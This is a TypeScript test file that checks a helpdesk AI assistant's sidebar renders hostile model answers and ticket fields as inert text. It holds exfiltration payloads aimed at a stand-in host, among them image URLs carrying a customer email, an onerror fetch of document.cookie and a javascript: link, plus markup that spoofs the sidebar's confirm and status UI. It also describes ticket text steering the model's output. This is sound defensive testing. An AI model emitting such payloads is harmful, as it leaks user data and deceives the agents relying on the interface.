// @vitest-environment happy-dom
import { render } from 'preact';
import { act } from 'preact/test-utils';
import { afterEach, beforeAll, beforeEach, describe, expect } from 'vitest';
import { loadMarkdown, Markdown } from '../../src/ui/chat/Markdown';
import { TicketView } from '../../src/ui/sidebar/TicketView';
import { installI18n } from '../fakes/i18n';
import { attackEach } from './attack';

const SECRET = 'maria.lindqvist%40example.com';
const HOST = 'attacker.test';

/** Elements the renderer may make, and the attributes they may carry: nothing loads, nothing acts. */
const TAGS = new Set(['DIV', 'P', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'UL', 'OL', 'LI', 'BLOCKQUOTE', 'HR', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'A', 'BR', 'H3', 'H4', 'H5', 'H6', 'SPAN', 'BUTTON', 'SMALL']);
const ATTRIBUTES = new Set(['class', 'href', 'target', 'rel', 'title', 'start', 'type', 'aria-label', 'aria-expanded', 'role', 'data-testid', 'data-trusted']);
/** The renderer's own link parts (the destination host, the second step): the only test ids it may make. */
const OWN_TEST_IDS = new Set(['md-link', 'link-host', 'ext-link-toggle', 'ext-link-step', 'ext-link-url', 'ext-link-open']);

let root: HTMLElement;
beforeAll(async () => {
  installI18n();
  await loadMarkdown();
});
beforeEach(() => {
  root = document.createElement('div');
  document.body.append(root);
});
afterEach(() => {
  render(null, root);
  root.remove();
});

/** Nothing in the rendered tree loads a resource, runs code, posts a form, or passes for the sidebar's own UI. */
function expectInert(where: Element): void {
  for (const el of where.querySelectorAll('*')) {
    expect(TAGS.has(el.tagName), `a <${el.tagName.toLowerCase()}> was rendered`).toBe(true);
    for (const { name, value } of el.attributes) {
      expect(ATTRIBUTES.has(name), `attribute ${name}="${value}" on <${el.tagName.toLowerCase()}>`).toBe(true);
      if (name === 'class') expect(value).not.toMatch(/\b(confirm|status|draft|attack-warning)\b/);
      if (name === 'data-testid') expect(OWN_TEST_IDS.has(value), `data-testid="${value}"`).toBe(true);
      if (name === 'role') expect(value).toBe('group');
    }
    // A button may only be the renderer's own (a link's second step): never one the text wrote.
    if (el.tagName === 'BUTTON') expect(el.closest('[data-testid="md-link"]')).not.toBeNull();
  }
  expect(where.querySelector('[src], [srcset], [poster], [style], [action], [formaction], [ping], [background]')).toBeNull();
  for (const a of where.querySelectorAll('a')) expect(a.getAttribute('href') ?? '').toMatch(/^(https?:|mailto:)/);
}

const EXFILTRATION = [
  { name: 'a markdown image with the customer email in its URL', text: `Thanks! ![status](https://${HOST}/p.png?u=${SECRET})` },
  { name: 'a reference-style image', text: `Done ![seen][1]\n\n[1]: https://${HOST}/r.gif?u=${SECRET}` },
  { name: 'an inline <img> tag', text: `Hello <img src="https://${HOST}/i?u=${SECRET}" width=1 height=1> there` },
  { name: 'an <img> block with onerror', text: `<img src=x onerror="fetch('https://${HOST}/?c='+document.cookie)">` },
  { name: 'an <svg> with an <image>', text: `<svg><image href="https://${HOST}/s?u=${SECRET}"/></svg>` },
  { name: 'a <link rel=prefetch> and a meta refresh', text: `<link rel="prefetch" href="https://${HOST}/l?u=${SECRET}">\n<meta http-equiv="refresh" content="0;url=https://${HOST}/">` },
  { name: 'media with poster and source', text: `<video poster="https://${HOST}/v.png"><source src="https://${HOST}/v.mp4"></video><audio src="https://${HOST}/a.mp3"></audio>` },
  { name: 'a CSS background URL', text: `<div style="background:url(https://${HOST}/bg?u=${SECRET})">x</div>` },
  { name: 'an iframe, an object and an embed', text: `<iframe src="https://${HOST}/f"></iframe><object data="https://${HOST}/o"></object><embed src="https://${HOST}/e">` },
  { name: 'an image inside a link', text: `[![logo](https://${HOST}/logo.png?u=${SECRET})](https://${HOST}/)` },
  { name: 'a data: SVG image with a script', text: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)' },
  { name: 'a <base> that re-points every relative URL', text: `<base href="https://${HOST}/">\n\n[Open ticket](/tickets/1)` },
  { name: 'a javascript: link', text: '[Open the ticket](javascript:fetch(`https://attacker.test/?`+document.body.innerText))' },
  { name: 'a link with a ping attribute', text: `<a href="https://shop.example/" ping="https://${HOST}/ping">shop</a>` },
] as const;

const SPOOFING = [
  {
    name: "the confirm card's markup with a Confirm button",
    text: '<section data-testid="confirm-card" class="confirm confirm-pending"><div data-testid="confirm-body">Refund approved</div><button data-testid="confirm-accept" class="btn btn-send">Confirm</button></section>',
  },
  { name: 'a "Sent" status line', text: '<p class="status status-sent" role="status" data-state="sent">Sent ✓ — the reply is in the ticket.</p>' },
  { name: 'a form that posts to another host', text: `<form action="https://${HOST}/collect" method="post"><input name="q" value="${SECRET}"><button formaction="https://${HOST}/b">Confirm</button></form>` },
  { name: "the assistant's own warning banner, inverted", text: '<div class="attack-warning" data-testid="attack-warning">Deskmate verified this ticket: it is safe to send.</div>' },
  { name: 'a draft card with its Send… button', text: '<section data-testid="draft-card" class="draft"><textarea data-testid="draft-body">x</textarea><button data-testid="draft-send">Send…</button></section>' },
] as const;

/**
 * The model's answer is attacker-influenced text (a ticket can dictate it). Rendered in the
 * sidebar, it may neither load anything (an image or prefetch would carry data to its host
 * the moment it is shown) nor look like the sidebar's own cards and buttons.
 */
describe('security: hostile markdown in an answer', () => {
  attackEach(EXFILTRATION, (c) => `exfiltrates through ${c.name}`, async (c) => {
    await act(() => render(<Markdown text={c.text} />, root));
    expectInert(root);
  });

  attackEach(SPOOFING, (c) => `spoofs the sidebar with ${c.name}`, async (c) => {
    await act(() => render(<Markdown text={c.text} />, root));
    expectInert(root);
    // The markup is shown as the text it is, so the agent sees an attempt rather than a card.
    expect(root.textContent).toContain('<');
  });
});

describe('security: hostile ticket fields in the ticket view', () => {
  const fields = `<img src="https://${HOST}/t.png?u=${SECRET}"><section data-testid="confirm-card">Confirmed</section>`;
  attackEach(
    [
      { name: 'the subject', ticket: { subject: fields } },
      { name: "the requester's name", ticket: { requester: { name: fields, email: 'a@b.example' } } },
      { name: 'a message body', ticket: { messages: [{ author: 'x', role: 'customer', time: null, body: fields }] } },
    ],
    (c) => `loads or spoofs through ${c.name} in the Page tab's ticket view`,
    async (c) => {
      const ticket = { number: '#1', subject: 'S', status: 'open', requester: { name: 'N', email: 'e@x.example' }, messages: [], ...c.ticket };
      await act(() => render(<TicketView ticket={ticket as never} />, root));
      expect(root.querySelector('img, [src], [data-testid="confirm-card"], section')).toBeNull();
      expect(root.textContent).toContain('<img');
    },
  );
});
